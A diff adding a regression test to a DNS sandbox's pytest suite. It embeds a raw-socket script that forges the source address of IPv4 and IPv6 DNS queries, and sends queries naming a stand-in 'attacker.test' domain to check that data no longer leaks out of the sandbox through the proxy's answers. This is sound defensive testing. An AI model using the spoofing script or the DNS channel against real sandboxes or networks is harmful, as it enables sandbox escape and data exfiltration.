@@ -328,3 +328,62 @@ def test_the_proxys_closed_upstream_connections_end_cleanly(box: DnsSandbox, lab
     while states() and time.monotonic() < deadline:
         time.sleep(0.1)
     assert states() == ""
+
+
+SPOOFED_QUERY = r"""
+import socket, struct, sys
+src, dst, name, sport = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+six = ":" in dst
+family = socket.AF_INET6 if six else socket.AF_INET
+query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+query += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
+udp = struct.pack("!HHHH", sport, 53, 8 + len(query), 0) + query
+if six:  # the UDP checksum is mandatory over IPv6
+    data = socket.inet_pton(family, src) + socket.inet_pton(family, dst) + struct.pack("!I", len(udp)) + b"\0\0\0\x11" + udp
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    total = (total >> 16) + (total & 0xFFFF)
+    udp = udp[:6] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + udp[8:]
+    head = struct.pack("!IHBB16s16s", 6 << 28, len(udp), 17, 64, socket.inet_pton(family, src), socket.inet_pton(family, dst))
+else:
+    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
+sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
+try:
+    sock.sendto(head + udp, (dst, 0))
+except PermissionError:
+    print("refused")
+else:
+    print("sent")
+"""
+
+
+@pytest.mark.parametrize("src, dst", [("198.18.0.99", RESOLVER_V4), ("2001:2::99", "2001:2::53")])
+def test_a_query_from_a_forged_source_gets_no_answer_out_of_the_sandbox(box: DnsSandbox, src: str, dst: str, request):  # was a defect
+    """With CAP_NET_RAW a process sends a DNS query from a forged source address; it is
+    redirected to the proxy's listener like any other, which answered the forged address
+    from ::1, the question (the data) included, and nat turned that into an answer from the
+    resolver's address: it left the sandbox to any IPv6 address, and to any IPv4 address
+    where route_localnet is set. Now neither leaves."""
+
+    def send(name: str, as_proxy: bool) -> str:
+        prefix = [] if as_proxy else NOBODY_WITH_NET_RAW
+        sport = "40002" if as_proxy else "40001"  # two flows: the first one's entry is redirected
+        out = subprocess.run(
+            ["ip", "netns", "exec", box.proxy_ns, *prefix, SYSTEM_PYTHON, "-I", "-c", SPOOFED_QUERY, src, dst, name, sport],
+            check=False, capture_output=True, text=True, timeout=20, env=CLIENT_ENV,
+        )  # fmt: skip
+        assert out.returncode == 0, out.stderr
+        return out.stdout.strip()
+
+    if ":" not in src:  # IPv4 routes a loopback source only with route_localnet (kube-proxy sets it on nodes)
+        sysctl = ["ip", "netns", "exec", box.proxy_ns, "sysctl", "-qw"]
+        subprocess.run([*sysctl, "net.ipv4.conf.all.route_localnet=1"], check=True, timeout=10)
+        request.addfinalizer(lambda: subprocess.run([*sysctl, "net.ipv4.conf.all.route_localnet=0"], check=False, timeout=10))
+    label = uuid.uuid4().hex[:16]
+    assert send(f"{label}.attacker.test", as_proxy=False) == "sent"  # redirected: the listener gets it
+    # The proxy's uid is not redirected: its forged query goes out as it is, and is captured.
+    control = uuid.uuid4().hex[:16]
+    assert send(f"{control}.attacker.test", as_proxy=True) == "sent"
+    assert box.capture.wait_for(control.encode())
+    time.sleep(0.5)  # the listener's answer, had it left, came after the control
+    assert not box.capture.seen(label.encode()), "the listener's answer to a forged source left the sandbox"
